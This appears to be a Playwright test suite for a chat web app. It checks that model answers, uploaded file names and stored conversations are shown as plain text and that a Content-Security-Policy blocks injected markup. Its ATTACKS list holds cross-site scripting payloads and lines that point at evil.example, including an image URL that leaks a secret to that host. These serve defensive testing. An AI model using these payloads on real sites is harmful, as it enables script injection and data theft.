"""What a model says, what a file is called and what was stored is text, whatever it looks like."""

import json

import pytest
from conversing import answered, ask, opened, press
from playwright.sync_api import expect

ATTACKS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "[click](javascript:alert(1))", "![x](https://evil.example/x.png)", "<a href='javascript:alert(1)'>x</a>",
    "```\"><script>alert(1)</script>\nx\n```", "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "`<script>alert(1)</script>`", "# <style>*{display:none}</style>", "[x](data:text/html,<script>alert(1)</script>)",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><button>x</button></form>", "\u202e<b onmouseover=alert(1)>x</b>",
]  # fmt: skip
DANGEROUS = "script, iframe, object, embed, base, meta, link, style, form, img"
SEEN = f"() => [...document.querySelectorAll('{DANGEROUS}')].map((one) => one.outerHTML)"


def test_what_the_model_says_is_text(page, answers):
    """`new_page` fails the test where a dialog opens, another origin is asked or the policy is touched."""
    before = page.evaluate(SEEN)
    for attack in ATTACKS:
        answers.text = attack
        ask(page, attack)
        page.locator(".answer .text").last.hover()
        assert page.evaluate(SEEN) == before, attack
        assert page.locator(".bubble").last.inner_text().strip() == attack
    targets = page.locator(".answer a").evaluate_all("(links) => links.map((link) => link.protocol)")
    assert set(targets) == {"https:"}


def test_a_link_leaves_no_trace_of_the_page_behind_it(page, answers):
    answers.text = "[there](https://example.org)"
    ask(page, "Where?")
    link = page.locator(".answer a")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(link).to_have_attribute("target", "_blank")


def test_an_image_of_the_web_is_a_link_and_is_not_loaded(page, answers):
    answers.text = "![secret](https://evil.example/?q=secret)"
    ask(page, "Show me.")
    assert page.locator(".answer img").count() == 0
    assert page.locator(".answer a").inner_text() == "Image: secret"


@pytest.mark.parametrize("attack", ATTACKS[:3])
def test_a_files_name_is_text(page, answers, workspace_folder, attack):
    answers.text = "Well."
    before = page.evaluate(SEEN)
    image = (workspace_folder / "media/red.png").read_bytes()
    name = f"{attack.replace('/', ' ')}.png"
    page.set_input_files("#files", {"name": name, "mimeType": "image/png", "buffer": image})
    ask(page, "What?")
    press(page, "Blind")
    answered(page)
    page.locator(".medium .name").hover()
    assert [one for one in page.evaluate(SEEN) if one not in before and "blob:" not in one] == []
    assert attack.split("/")[0] in page.locator(".medium .name").inner_text()


def test_a_drawing_with_a_script_runs_none(page, answers, workspace_folder):
    drawing = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    page.set_input_files("#files", {"name": "a.svg", "mimeType": "image/svg+xml", "buffer": drawing})
    ask(page, "What?")
    assert "cannot be read" in page.locator(".ending .note").inner_text()


STORE = """(row) => new Promise((resolve) => {
  const opening = indexedDB.open("macaw-chat");
  opening.onsuccess = () => {
    const writing = opening.result.transaction("conversations", "readwrite");
    writing.objectStore("conversations").put(row);
    writing.oncomplete = () => { opening.result.close(); resolve(); };
  };
})"""


def test_a_stored_conversation_is_text_and_a_broken_one_is_left_out(page, answers):
    evil = ATTACKS[1]
    usage = {"prompt_tokens": evil, "completion_tokens": evil}
    answer = {"text": evil, "state": evil, "finish": evil, "error": evil, "usage": usage}
    medium = {"id": evil, "name": evil, "kind": "image", "type": evil, "size": evil, "became": [{"soft_tokens": evil}]}
    turn = {
        "id": '"]<img src=x onerror=alert(1)>', "question": evil, "media": [medium], "answer": answer,
        "comparisons": [{"id": evil, "kind": "swap", "medium": medium, "replaced": evil, "answer": answer}],
    }  # fmt: skip
    page.evaluate(STORE, {"id": evil, "title": evil, "updated": 1, "turns": [turn]})
    media = [None, [{**medium, "kind": "script"}], [{**medium, "became": evil}], [{}]]
    broken = [{"media": one} for one in media] + [{"answer": 1}, {"comparisons": [{}]}, {"id": 5}, {"question": None}]
    for number, turns in enumerate(["text", None, [None], [{}], *([{**turn, **one}] for one in broken)]):
        page.evaluate(STORE, {"id": f"broken {number}", "title": f"broken {number}", "updated": 2, "turns": turns})
    page.evaluate(STORE, {"id": "no more", "title": None})
    page.reload()
    expect(page.locator("#conversations .title")).to_have_count(1)
    before = page.evaluate(SEEN)
    page.locator("#conversations .title").click()
    assert page.locator(".bubble").inner_text() == evil
    assert page.locator(".answer .text").all_inner_texts() == [evil, evil]
    assert [one for one in page.evaluate(SEEN) if one not in before] == []


def test_settings_of_somebody_else_are_left_alone(page, answers):
    for kept in ("no json", "[]", "null", json.dumps({"system": 5, "temperature": "hot", "seed": {}, "topP": None})):
        page.evaluate("(kept) => localStorage.setItem('macaw-settings', kept)", kept)
        page.evaluate("() => localStorage.setItem('macaw-theme', '<script>')")
        opened(page)
        answers.text = "Fine."
        ask(page, "Ready?")
        assert answers.questions[-1].sampling.temperature is None


def test_the_page_is_sent_with_a_policy_that_allows_its_own_files_alone(served):
    import httpx

    with httpx.Client(base_url=served[0]) as client:
        for path in ("/", "/page/main.js", "/page/style.css", "/page/icon.svg"):
            headers = client.get(path).headers
            policy = headers["content-security-policy"]
            assert "script-src 'self'" in policy
            assert "require-trusted-types-for 'script'" in policy
            assert "unsafe" not in policy
            assert headers["x-content-type-options"] == "nosniff"
            assert headers["referrer-policy"] == "no-referrer"


def test_markup_that_came_into_the_page_all_the_same_would_be_refused(browser, served):
    """The policy is what holds when all else fails."""
    context = browser.new_context(base_url=served[0])
    page = context.new_page()
    page.goto("/")
    refused = page.evaluate("""() => {
      try { document.body.innerHTML = "<img src=x onerror=alert(1)>"; } catch (error) { return error.name; }
    }""")
    context.close()
    assert refused == "TypeError"
